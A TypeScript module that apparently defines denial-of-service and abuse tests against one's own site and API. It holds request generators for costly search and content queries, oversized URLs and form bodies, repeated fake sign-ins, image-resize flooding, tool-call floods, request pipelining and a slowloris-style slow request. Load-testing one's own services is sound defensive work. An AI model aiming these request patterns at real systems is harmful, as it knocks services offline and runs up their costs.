/** Attacks on a service and a site of one's own: what each sends, again and again, from one network. */
import { z } from 'zod'

/** Where an attack goes, and what a stranger can have: a search token, and a partner's token of the content API. */
export const targets = z.object({
  site: z.url(),
  service: z.url(),
  searchKey: z.string(),
  token: z.string(),
  picture: z.string(),
})
export type Targets = z.output<typeof targets>

type Sent = {
  readonly url: string
  readonly method?: 'GET' | 'POST'
  readonly headers?: Readonly<Record<string, string>>
  readonly body?: string
}
/** `raw`: bytes for a connection whose answers are not read; `slow`: a byte of them at a time. */
type Attack = { readonly next: (targets: Targets) => Sent } | { readonly raw: string; readonly slow?: boolean }

const json = { 'content-type': 'application/json' }
const form = { 'content-type': 'application/x-www-form-urlencoded', 'sec-fetch-site': 'same-origin' }
const words = 'leraar docent school klas vak les mbo po vo so hbo route pabo stage salaris deeltijd beurs'.split(' ')
const names = Array.from({ length: 1000 }, (_, at) => `a${at}`)
const word = () => words[Math.floor(Math.random() * words.length)] ?? ''
const number = (most: number) => 1 + Math.floor(Math.random() * most)

const costlySearch = {
  query: words.join(' '),
  optionalWords: words,
  queryType: 'prefixAll',
  hitsPerPage: 1000,
  attributesToRetrieve: names,
  attributesToHighlight: names,
}

export const attacks: Readonly<Record<string, Attack>> = {
  'costly searches': {
    next: ({ service, searchKey }) => ({
      url: `${service}/search/1/indexes/*/queries`,
      method: 'POST',
      headers: { ...json, 'x-algolia-application-id': 'A', 'x-algolia-api-key': searchKey },
      body: JSON.stringify({
        requests: Array.from({ length: 20 }, () => ({ ...costlySearch, indexName: 'articles' })),
      }),
    }),
  },
  'costly content queries': {
    next: ({ service, token }) => ({
      url: `${service}/items/faqs?limit=-1&search=${word()}&fields=*.*.*&sort=-question&filter[_or][0][question][_contains]=${word()}&filter[_or][1][topics][topics_id][name][_contains]=${word()}`,
      headers: { authorization: `Bearer ${token}` },
    }),
  },
  'long expressions': {
    next: ({ service, token }) => ({
      url: `${service}/items/articles?fields=a(${'%2B'.repeat(1600)}(`,
      headers: { authorization: `Bearer ${token}` },
    }),
  },
  'sign-ins': {
    next: ({ service }) => ({
      url: `${service}/auth/login`,
      method: 'POST',
      headers: json,
      body: JSON.stringify({ email: `p${number(1e9)}@example.org`, password: 'not this one at all' }),
    }),
  },
  'pictures of every size': {
    next: ({ service, picture }) => ({
      url: `${service}/media/image/upload/w_${number(2000)},h_${number(2000)},c_fill,f_webp/${picture}`,
    }),
  },
  'pages for one visitor': {
    next: ({ site }) => ({ url: `${site}/navigator/opleidingen?q=${word()}+${number(1e9)}` }),
  },
  'pages that are missing': { next: ({ site }) => ({ url: `${site}/kennisbank/artikelen/nergens-${number(1e9)}` }) },
  forms: {
    next: ({ site }) => ({
      url: `${site}/api/contact`,
      method: 'POST',
      headers: form,
      body: new URLSearchParams({ seal: `${Date.now()}.${'é'.repeat(43)}`, question: 'x'.repeat(15_000) }).toString(),
    }),
  },
  'calls of tools': {
    next: ({ site }) => ({
      url: `${site}/mcp`,
      method: 'POST',
      headers: { ...json, accept: 'application/json, text/event-stream' },
      body: JSON.stringify({
        jsonrpc: '2.0',
        id: 1,
        method: 'tools/call',
        params: { name: 'search', arguments: { query: word() } },
      }),
    }),
  },
  'answers that nobody reads': { raw: 'GET / HTTP/1.1\r\nhost: localhost\r\n\r\n'.repeat(40) },
  'requests without an end': { raw: `GET / HTTP/1.1\r\nhost: localhost\r\nx: ${'y'.repeat(2000)}`, slow: true },
}
